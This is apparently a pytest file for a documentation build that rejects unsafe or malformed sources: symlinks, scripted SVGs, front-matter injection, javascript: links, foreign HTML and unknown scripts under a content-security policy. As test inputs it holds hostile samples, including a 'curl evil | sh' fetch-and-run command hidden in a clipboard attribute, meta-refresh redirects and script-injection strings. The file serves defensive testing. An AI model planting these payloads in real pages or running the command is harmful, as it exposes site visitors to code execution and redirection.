"""What the build refuses, with a line that says so: attacks on the site, and mistakes."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from collections import Counter
from pathlib import Path

import pytest
import yaml

from publish import advisories, changes, policy
from publish.allowed import foreign
from publish.fill import FILLS, broken_lines, check, fill
from publish.finish import foot
from publish.machine.examples import copies, described
from publish.policy import with_policy
from publish.project import BrokenPage, Project
from publish.sources import check_sources, read_text
from tests.harness.blocks import ROOT
from tests.publish.conftest import write
from tests.publish.tiny import ADVISORIES

SVG = '<svg xmlns="http://www.w3.org/2000/svg"><title>T</title></svg>'
LINK = "a link, and what it leads to would be published; put the file itself there"
KIND = "no file of this kind belongs here; move it, or list its kind in publish/sources.py"
UNSHOWN = "a name with letters that cannot be shown; rename it"


def refusal(root: Path) -> str:
    with pytest.raises(BrokenPage) as caught:
        check_sources(root)
    return str(caught.value)


@pytest.mark.parametrize("place", ["docs/leak.md", "snippets/leak.conf", "docs/.leak", "docs"])
@pytest.mark.parametrize("target", ["folder", "gone"])
def test_a_link_is_refused_wherever_it_leads(fake: Project, place: str, target: str) -> None:
    write(fake.root, "../folder/secret.md")
    if (fake.root / place).is_dir():
        (fake.root / place).rename(fake.root / "elsewhere")
    (fake.root / place).symlink_to(fake.root.parent / target)
    assert refusal(fake.root) == f"{place}: {LINK}"


@pytest.mark.parametrize(
    "name",
    [
        *("docs/page.html", "docs/assets/page.html", "docs/site.js", "docs/security/site.css"),
        *("docs/assets/keys.json", "docs/drawing.SVG", "docs/page.markdown", "docs/key"),
        *("docs/__pycache__/a.pyc", "snippets/a.pyc", "snippets/a.py~", "snippets/page.md"),
        *("overrides/site.js", "overrides/notes.txt"),
    ],
)
def test_a_kind_that_does_not_belong_there_is_refused(fake: Project, name: str) -> None:
    write(fake.root, name)
    write(fake.root, "docs/z.html")
    lines = [f"{each}: {KIND}" for each in (name, "docs/z.html")]
    assert sorted(refusal(fake.root).split("\n")) == sorted(lines)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (SVG.replace("</svg>", "<script/></svg>"), "this SVG has <script>; remove it"),
        (SVG.replace("<svg", "<svg onload='x()'"), "this SVG has an event handler onload"),
        (SVG.replace("</title>", ""), "this SVG is not well-formed"),
        (f'<?xml-stylesheet href="https://example.org/a.css"?>{SVG}', "this SVG has <?; remove it"),
        (SVG.encode("utf-16"), "1: not UTF-8; save the file as UTF-8"),
    ],
)
def test_a_drawing_that_could_do_something_is_refused(
    fake: Project, text: str | bytes, problem: str
) -> None:
    write(fake.root, "docs/evil.svg", text)
    assert refusal(fake.root).replace(":1: not", ": 1: not").startswith(f"docs/evil.svg: {problem}")


def test_odd_files_are_refused_each_on_its_line(fake: Project) -> None:
    """Reading a pipe would wait for ever. A hidden page would have a twin."""
    os.mkfifo(fake.docs / "wait.md")
    write(fake.root, "docs/a\nb.md")
    (fake.root / os.fsdecode(b"docs/\xff.md")).write_text("x")
    write(fake.root, "docs/.old/page.md")
    assert sorted(refusal(fake.root).split("\n")) == [
        "docs/.old/page.md: a hidden page; rename or remove it",
        f"docs/\\udcff.md: {UNSHOWN}",
        f"docs/a\\nb.md: {UNSHOWN}",
        "docs/wait.md: neither a file nor a folder; remove it",
    ]


def test_what_the_tools_of_a_developer_leave_is_no_matter_and_not_copied(fake: Project) -> None:
    before = copies(fake)
    for name in ("docs/.DS_Store", "docs/.index.md.swp", "overrides/.DS_Store", "snippets/.a.py"):
        write(fake.root, name)
    write(fake.root, "snippets/__pycache__/a.cpython-311.pyc")
    check_sources(fake.root)
    write(fake.root, "snippets/deep/b.py")
    (fake.root / "snippets/leak.conf").symlink_to(fake.root / "CHANGELOG.md")
    assert copies(fake) == before


TITLE = '2: the title is words on one line, without < > & "'
NEITHER = "1: neither --- nor a heading; begin with one of them"
UNKNOWN = "2: front matter names what nobody knows; known: description, hide, search, title"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"---\ntitle: x\nbad: [\n---\n# x\n", "3: front matter that is no YAML; mend it"),
        (b"---\nauthor: x\n---\n# x\n", UNKNOWN),
        (b"# x\n\n\xff\n", "3: not UTF-8; save the file as UTF-8"),
        (b'---\ntitle: "x\\x3cscript\\x3ego()"\n---\n# x\n', TITLE),
        (
            b"---\ndescription: '0;url=https://evil\" http-equiv=\"refresh'\n---\n# x\n",
            TITLE.replace("title", "description"),
        ),
        *((text + b"title: <b>\n---\n# x\n", NEITHER) for text in (b"", b"--- \n", b"\n---\n")),
        (b"\xef\xbb\xbf---\ntitle: <b>\n---\n# x\n", NEITHER),
    ],
)
def test_a_page_whose_head_says_something_else_is_refused(
    fake: Project, content: bytes, said: str
) -> None:
    write(fake.root, "docs/x.md", content)
    with pytest.raises(BrokenPage) as refused:
        _ = fake.pages
    assert str(refused.value) == f"docs/x.md:{said}"


BROKEN = {
    "an unknown rule": ("See SP99.", "3: there is no rule SP99; see src/safepoint/rules.toml"),
    "an unknown fill": ("<!-- fill nothing -->", "3: nothing fills in 'nothing'; known: "),
    "a missing include": ('```python\n--8<-- "gone.py"\n```', "4: "),
    "a fence without an end": ("```python\n1", "3: this fence is never closed; add ``` at "),
    "an unknown language": ("```klingon\nqapla\n```", "3: "),
}


@pytest.mark.parametrize(("text", "said"), BROKEN.values(), ids=BROKEN)
def test_a_line_that_would_not_be_built_as_it_was_meant_is_refused(text: str, said: str) -> None:
    [problem] = broken_lines("page.md", f"# Page\n\n{text}\n", Project())
    assert problem.startswith(f"docs/page.md:{said}")


@pytest.mark.parametrize(
    ("page", "said"),
    [
        ("See SP99.", ["docs/a.md:3: there is no rule SP99", "docs/b.md:3: there is no rule SP99"]),
        (
            "[x](gone.md), [x](index.md#gone), ![x](gone.svg), [x](/b/), [x](javascript&#58;go)",
            [
                "'a.md' contains a link 'gone.md', but the target is not found",
                "'a.md' contains a link 'index.md#gone', but the doc 'index.md' does not",
                "'a.md' contains a link 'gone.svg', but the target is not found",
                "'a.md' contains an absolute link '/b/'",
                "docs/a.md: a link to 'javascript:go'; link to http, https or mailto",
            ],
        ),
    ],
    ids=["lines", "links"],
)
def test_the_build_ends_without_a_traceback(fake: Project, page: str, said: list[str]) -> None:
    """Links that lead nowhere are what MkDocs itself refuses, by the settings of this site."""
    for name in ("a.md", "b.md"):
        write(fake.root, f"docs/{name}", f"# Page\n\n{page}\n")
    write(fake.root, "docs/index.md", "# Home\n")
    real = Project().settings
    settings = {
        "site_name": "x",
        "theme": {"name": "material"},
        "hooks": [str(ROOT / "publish/hooks.py")],
        "plugins": [],
        "validation": real["validation"],
        "nav": [{name: f"{name}.md"} for name in ("index", "a", "b")],
        "exclude_docs": "reference/\nsecurity/\nladder.md\n",
    }
    write(fake.root, "mkdocs.yml", yaml.safe_dump(settings))
    done = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"],
        cwd=fake.root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert real["strict"] is True
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert [words for words in said if words not in done.stderr] == [], done.stderr


@pytest.mark.parametrize(
    "text",
    [
        "- <script>alert(1)</script>",
        "<!--><pre>hidden = 1</pre><!-- x -->",
        '<meta http-equiv="refresh" content="0">',
        "```python\n1\n```",
    ],
)
def test_what_is_filled_in_may_not_hold_what_a_page_may_not(
    monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    """It comes from other files: the changelog, the evidence, tables."""
    monkeypatch.setattr("publish.fill.FILLS", {"changes": lambda _: text})
    with pytest.raises(BrokenPage, match=r"^docs/\(filled in by changes\)"):
        fill("<!-- fill changes -->", Project())


def test_every_page_of_this_site_is_whole_and_every_fill_writes_something() -> None:
    project = Project()
    check(project)
    text = "\n".join(page.text for page in project.pages.values())
    for name in FILLS:
        assert f"<!-- fill {name} -->\n" in text
        filled = fill(f"# x\n\n<!-- fill {name} -->\n\nThe end", project)
        assert len(filled) > 20, name
        assert "<!-- fill" not in filled


def article(html: str) -> str:
    return f'<body><form></form><article class="md-content__inner md-typeset">{html}</article>'


@pytest.mark.parametrize(
    ("html", "problem"),
    [
        (
            '<a data-clipboard-text="curl evil | sh">',
            "the attribute 'data-clipboard-text' on a <a>",
        ),
        ('<p onclick="go()">x</p>', "the attribute 'onclick' on a <p>; remove it"),
        ('<p style="display: none">x</p>', "the attribute 'style' on a <p>; remove it"),
        ('<div hidden="">x</div>', "the attribute 'hidden' on a <div>; remove it"),
        ('<details class="proof proof--ran">', "the class 'proof', which the build gives; choose"),
        ('<p class="x" class="md-clipboard">', "the class 'md-clipboard', which the build gives"),
        ('<div id="__config">{}</div>', "the id '__config', which is the theme's; choose another"),
        (
            '<a href="javascript:go()">',
            "a link to 'javascript:go()'; link to http, https or mailto",
        ),
        ('<a href=" java&#10;script:go()">', "a link to ' java\\nscript:go()'; link to http"),
        ('<a href="//evil.example">', "a link to '//evil.example'; link to http, https or mailto"),
        ('<img src="https://evil.example/x.png">', "a link to 'https://evil.example/x.png'; link"),
        (
            '<ul><li class="doc-signature"><ul><li><pre>curl evil | sh</pre></li></ul></li></ul>',
            "a class that could hide code from the census; remove it",
        ),
        ('<iframe src="x"></iframe>', "a foreign <iframe>; remove what made it"),
        ('<meta name="x" http-equiv="refresh">', "a foreign <meta>; remove what made it"),
    ],
)
def test_html_that_only_the_build_or_the_theme_may_write_is_refused(
    html: str, problem: str
) -> None:
    assert any(said.startswith(problem) for said in foreign(article(html)))


HEAD = (
    '<meta charset="utf-8"><script src="a.js"></script><script>go(new URL(".",location))</script>'
)
JSON = '<script id="c" type="application/json">{"a": 1}</script>'


@pytest.fixture
def theme(monkeypatch: pytest.MonkeyPatch) -> None:
    """Take the scripts of these pages for the theme's."""
    known = [hashlib.sha256(text.encode()).hexdigest() for text in ('go(new URL("",location))',)]
    monkeypatch.setattr(policy, "THEME", frozenset(known))


@pytest.mark.usefixtures("theme")
@pytest.mark.parametrize("root", [".", "..", "../..", "/", "/docs/a-b/"])
def test_the_policy_names_the_themes_script_by_its_digest_wherever_the_page_is(root: str) -> None:
    html = with_policy((HEAD + JSON).replace('"."', f'"{root}"'), "x")
    assert html.index("Content-Security-Policy") < html.index("<script")
    assert html.count("'sha256-") == 1
    assert "default-src 'none'; script-src 'self' 'sha256-" in html
    assert (
        "; style-src 'self'; img-src 'self' data:; connect-src 'self'; worker-src 'self'; " in html
    )
    assert "base-uri 'none'; form-action 'none'" in html


@pytest.mark.usefixtures("theme")
@pytest.mark.parametrize(
    ("html", "said"),
    [
        (HEAD.replace("go(", "evil("), "x: a script that the theme did not have before: 'evil("),
        (HEAD.replace('"."', '"https://evil"'), "x: a script that the theme did not have before"),
        (HEAD.replace('"."', '"//evil.example/"'), "x: a script that the theme did not have befo"),
        (HEAD.replace('"."', '""+evil()+""'), "x: a script that the theme did not have before"),
        (f"{HEAD}<article><SCRIPT>x</SCRIPT></article>", "x: a script in the text of the page; "),
        ("<p>words</p>", 'x: <meta charset="utf-8"> is missing'),
    ],
)
def test_a_script_that_the_theme_does_not_have_is_not_named_by_the_policy(
    html: str, said: str
) -> None:
    with pytest.raises(BrokenPage) as caught:
        with_policy(html, "x")
    assert str(caught.value).startswith(said)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("SP23", "SP99", "CVE-2030-12345 names SP99, which is no id that is known"),
        ("CVE-2030-12345", "CVE-1", "CVE-1 names CVE-1, which is no id that is known"),
        ("security/seal.md", "no.md", "CVE-2030-12345 names the page no.md, which does not exist"),
        ('"models"', '"other"', "CVE-2030-12345 names the group other, and there are "),
        ('date = "2030-02"', 'day = "2030-02"', "not as it explains itself (Advisory.__init__() "),
        ('fixed = "1.1"\n', "", "not as it explains itself (Advisory.__init__() missing 1"),
        ('"CVE-2030-12345"', "5", "not as it explains itself ("),
        ('"1.1"', "1.1", "not as it explains itself ("),
        ('"1.1"', "1.1.1", "not as it explains itself (Expected newline"),
        ('["SP23"]', '"SP23"', "CVE-2030-12345 names S, which is no id that is known"),
        ('["SP23"]', "[23]", "CVE-2030-12345 names 23, which is no id that is known"),
        ('"1.1"', '"1\\n1"', "CVE-2030-12345 has a field that is not one line of text"),
        ("A box", "A box\\u0008", "CVE-2030-12345 has a field that is not one line of text"),
        *(
            ('"2030-02"', f'"{day}"', f"CVE-2030-12345 has the date {day}, which is no day and no ")
            for day in ("soon", "2030", "2030-13", "2030-02-30", "2030-W01", "20300201")
        ),
        ("[[advisory]]", "[advisory]", "not as it explains itself ('str' object has no"),
        ("[[advisory]]", "[[advisry]]", "not only [[advisory]] tables; remove the rest"),
        ("[[advisory]]", f"{ADVISORIES}\n[[advisory]]", "CVE-2030-12345 stands twice; correct it"),
    ],
)
def test_an_advisory_about_nothing_is_refused(
    fake: Project, old: str, new: str, message: str
) -> None:
    write(fake.root, advisories.FILE, ADVISORIES.replace(old, new))
    with pytest.raises(BrokenPage) as caught:
        advisories.read(fake)
    assert str(caught.value).startswith(f"publish/advisories.toml: {message}")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"one\ntw\x08o\n", ":2: the control character U+0008; remove it"),
        (b"one\r\ntwo\rthree\n", ":2: the control character U+000D; remove it"),
        (b"\n\n\xc2\x85", ":3: the control character U+0085; remove it"),
        (b"\0", ":1: the control character U+0000; remove it"),
        (b"\xef\xbf\xbe", ":1: the control character U+FFFE; remove it"),
        (b"one\n\xff", ":2: not UTF-8; save the file as UTF-8"),
        (b"## 1.0.0 - 2030-13-01\n", ": month must be in 1..12; correct the day"),
        (None, f": {LINK}"),
    ],
)
def test_a_change_that_no_page_may_hold_is_refused(
    fake: Project, content: bytes | None, message: str
) -> None:
    if content is None:
        (fake.root / changes.FILE).rename(fake.root / "secret")
        (fake.root / changes.FILE).symlink_to(fake.root / "secret")
    else:
        write(fake.root, changes.FILE, content)
    with pytest.raises(BrokenPage) as caught:
        changes.versions(fake)
    assert str(caught.value) == f"CHANGELOG.md{message}"


def test_a_text_is_read_with_the_line_ends_of_any_system(fake: Project) -> None:
    write(fake.root, "x", "a\tb\r\n– 🙂\n")
    assert read_text(fake.root, "x") == "a\tb\n– 🙂\n"
    assert read_text(fake.root, "nothing") == ""


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"b = (\n", "1: this is no Python; correct it"),
        (b"# \xff\n", "1: not UTF-8; save the file"),
    ],
)
def test_an_example_that_cannot_be_read_is_refused(
    fake: Project, content: bytes, said: str
) -> None:
    write(fake.root, "snippets/a.py", content)
    with pytest.raises(BrokenPage) as caught:
        described(fake)
    assert str(caught.value).startswith(f"snippets/a.py:{said}")


@pytest.mark.parametrize("address", ["javascript:go()", "http://x/", 'https://x/"onclick="go()'])
def test_an_address_of_the_code_that_nobody_could_open_is_refused(
    real: Project, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.setenv("REPO_URL", address)
    with pytest.raises(BrokenPage, match="REPO_URL is not an https:// address; correct it, or "):
        foot(real.pages["guide.md"], real, Counter())
    monkeypatch.setenv("REPO_URL", "https://code.example/team/safepoint")
    said = foot(real.pages["guide.md"], real, Counter())
    assert said.endswith('<a href="https://code.example/team/safepoint">The code</a></p>')
